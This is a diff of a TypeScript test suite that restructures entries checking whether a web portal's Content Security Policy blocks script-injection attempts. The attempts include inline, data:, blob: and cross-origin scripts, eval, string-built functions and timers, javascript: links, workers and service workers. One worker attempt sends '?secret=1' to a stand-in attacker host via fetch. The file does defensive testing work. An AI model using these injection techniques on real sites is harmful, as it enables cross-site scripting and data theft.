@@ -25,108 +25,88 @@ const addScript = (page: Page, parts: ScriptParts) =>
   }, parts);
 
 const scriptElements: readonly Attempt[] = [
-  {
-    what: 'a script element with code as a child',
-    attack: (page) => addScript(page, { child: CODE }),
+  [
+    'a script element with code as a child',
     // Chromium does not run it, and fires no event.
-    blockedBy: null,
-  },
-  {
-    what: 'a script element whose text is set to code',
-    attack: (page) => addScript(page, { text: CODE }),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a script of another origin',
-    attack: (page, evil) => addScript(page, { src: `${evil}/x.js` }),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a data: script',
-    attack: (page) => addScript(page, { src: `data:text/javascript,${CODE}` }),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a blob: script, whose origin is the portal’s',
-    attack: (page) => addScript(page, { blob: CODE }),
-    blockedBy: SCRIPTS,
-  },
+    null,
+    (page) => addScript(page, { child: CODE }),
+  ],
+  ['a script element whose text is set to code', SCRIPTS, (page) => addScript(page, { text: CODE })],
+  ['a script of another origin', SCRIPTS, (page, evil) => addScript(page, { src: `${evil}/x.js` })],
+  ['a data: script', SCRIPTS, (page) => addScript(page, { src: `data:text/javascript,${CODE}` })],
+  ['a blob: script, whose origin is the portal’s', SCRIPTS, (page) => addScript(page, { blob: CODE })],
 ];
 
 const otherWays: readonly Attempt[] = [
-  {
-    what: 'an event handler in an attribute',
-    attack: inPage(() => {
+  [
+    'an event handler in an attribute',
+    SCRIPTS,
+    inPage(() => {
       const button = document.createElement('button');
       button.setAttribute('onclick', 'window.attacked = true');
       document.body.append(button);
       button.click();
     }),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'eval',
+  ],
+  [
+    'eval',
+    SCRIPTS,
     // biome-ignore lint/security/noGlobalEval: this is the attack
-    attack: inPage(() => setTimeout(() => globalThis.eval('window.attacked = true'))),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a function from a string',
-    attack: inPage(() => setTimeout(() => Reflect.construct(Function, ['window.attacked = true'])())),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a timer with a string',
-    attack: inPage(() => Reflect.apply(setTimeout, window, ['window.attacked = true', 0])),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a link with javascript:',
-    attack: inPage(() => {
+    inPage(() => setTimeout(() => globalThis.eval('window.attacked = true'))),
+  ],
+  [
+    'a function from a string',
+    SCRIPTS,
+    inPage(() => setTimeout(() => Reflect.construct(Function, ['window.attacked = true'])())),
+  ],
+  [
+    'a timer with a string',
+    SCRIPTS,
+    inPage(() => Reflect.apply(setTimeout, window, ['window.attacked = true', 0])),
+  ],
+  [
+    'a link with javascript:',
+    SCRIPTS,
+    inPage(() => {
       const link = document.createElement('a');
       link.href = 'javascript:window.attacked = true';
       document.body.append(link);
       link.click();
     }),
-    blockedBy: SCRIPTS,
-  },
-  {
-    what: 'a module of another origin',
-    attack: inPage((evil) => import(/* webpackIgnore: true */ `${evil}/x.js`).catch(() => undefined)),
-    blockedBy: SCRIPTS,
-  },
+  ],
+  [
+    'a module of another origin',
+    SCRIPTS,
+    inPage((evil) => import(/* webpackIgnore: true */ `${evil}/x.js`).catch(() => undefined)),
+  ],
 ];
 
 const WORKERS = /^(worker-src|require-trusted-types-for)$/;
 
 const workers: readonly Attempt[] = [
-  {
-    what: 'a worker from a file, which would run without this policy',
-    attack: inPage(() => new Worker('/favicon.svg')),
-    blockedBy: WORKERS,
-  },
-  {
-    what: 'a worker from a blob: URL, whose origin is the portal’s',
-    attack: inPage(() => new Worker(URL.createObjectURL(new Blob(['window.attacked = true'])))),
-    blockedBy: WORKERS,
-  },
-  {
-    what: 'a service worker',
-    attack: inPage(() => navigator.serviceWorker.register('/favicon.svg')),
-    blockedBy: WORKERS,
-  },
-  {
-    what: 'data sent by a worker from a data: URL',
-    attack: inPage(
+  [
+    'a worker from a file, which would run without this policy',
+    WORKERS,
+    inPage(() => new Worker('/favicon.svg')),
+  ],
+  [
+    'a worker from a blob: URL, whose origin is the portal’s',
+    WORKERS,
+    inPage(() => new Worker(URL.createObjectURL(new Blob(['window.attacked = true'])))),
+  ],
+  ['a service worker', WORKERS, inPage(() => navigator.serviceWorker.register('/favicon.svg'))],
+  [
+    'data sent by a worker from a data: URL',
+    // The event fires in the worker.
+    null,
+    inPage(
       (evil) =>
         new Promise((resolve) => {
           const code = `fetch('${evil}/?secret=1').catch(() => 0).then(() => postMessage(1))`;
           new Worker(`data:text/javascript,${encodeURIComponent(code)}`).onmessage = resolve;
         }),
     ),
-    // The event fires in the worker.
-    blockedBy: null,
-  },
+  ],
 ];
 
 testBlocked('code', [...scriptElements, ...otherWays, ...workers]);
